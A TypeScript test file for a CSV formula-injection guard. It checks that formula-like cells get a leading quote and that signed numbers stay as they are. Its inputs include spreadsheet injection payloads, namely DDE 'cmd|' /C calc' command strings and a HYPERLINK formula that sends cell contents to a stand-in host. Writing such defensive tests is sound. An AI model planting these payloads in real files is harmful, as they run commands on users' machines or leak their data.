import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { needsFormulaGuard, safeCell } from '../../src/kernel/csv-cell.js';
import { parseNumber } from '../../src/read/values/number.js';

describe('safeCell: what a spreadsheet would run is guarded', () => {
  it.each([
    '=1+1', '=HYPERLINK("http://example.invalid/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '-cmd|\' /C calc\'!A0', '- cmd|\' /C calc\'!A0',
    '-2+3', '+1-1', '-2*3', '-1e3+1', '@SUM(A1)', '@Home Team', '+SUM(A1:A3)', '-A1', "-'[book.xlsx]Sheet1'!A1", '-e5',
    '\t=1+1', '\r=1+1', '-(45)', '- refund (May)', '-1:2', '+"text"', '- x;y',
  ])('%j', (cell) => {
    expect(needsFormulaGuard(cell)).toBe(true);
    expect(safeCell(cell).replace(/^"/, '').startsWith("'")).toBe(true);
  });

  it('guards every cell that starts like a formula and could call, link or run something', () => {
    const cell = fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ unit: fc.constantFrom('a', 'Z', '1', ' ', '.', ',', '|', '!', '(', '[', '\'', '"', '-', '+', '£', 'e') }))
      .map(([first, rest]) => first + rest)
      .filter((s) => /[(|![]/.test(s));
    fc.assert(fc.property(cell, (s) => needsFormulaGuard(s)));
  });
});

describe('safeCell: figures and plain text are written as they are', () => {
  it.each([
    '-12.5', '-£12.30', '£-12.30', '(45.00)', '-', '+', '- refund', '+ VAT', '- Annexe B, 2nd floor', '-1,234.5', '+1 234.5', '-1.2e3', '-1.2E+03',
    '-5E-06', '-12%', '-12 %', '-12,30 €', '-1.234,5', '\u22125', '1.2E+12', 'Main Hospital', '', "'=already guarded",
  ])('%j', (cell) => {
    expect(needsFormulaGuard(cell)).toBe(false);
  });

  it('keeps numbers as numbers, negative or not', () => {
    expect([-12.5, 0, 1e21, -1e-7].map(safeCell)).toEqual(['-12.5', '0', '1e+21', '-1e-7']);
    expect(safeCell('-1,234.5')).toBe('"-1,234.5"');
    expect(safeCell('=1+1')).toBe("'=1+1");
    expect(safeCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
  });

  it('leaves alone every signed number tco2e\'s number reader accepts, so it reads back the same', () => {
    // Pieces numbers are written with (and some they are not), so that many of the cells are numbers.
    const pieces = ['0', '1', '7', '12', '1,234', '1.234', '1 234', '1\u00A0234', '1\u202F234', '.5', ',5', 'e3', 'E+03', 'e-6', '%', ' %', '£', '€', '$', ' ', '-', '+', '\u2212', '(', ')'];
    const cell = fc.tuple(fc.constantFrom('-', '+'), fc.array(fc.constantFrom(...pieces), { maxLength: 5 })).map(([sign, rest]) => sign + rest.join(''));
    fc.assert(
      fc.property(cell, (s) => {
        const read = [parseNumber(s, { decimal: '.' }), parseNumber(s, { decimal: ',' })].some((r) => r.ok);
        return !read || !needsFormulaGuard(s);
      }),
      { numRuns: 10_000 },
    );
  });
});
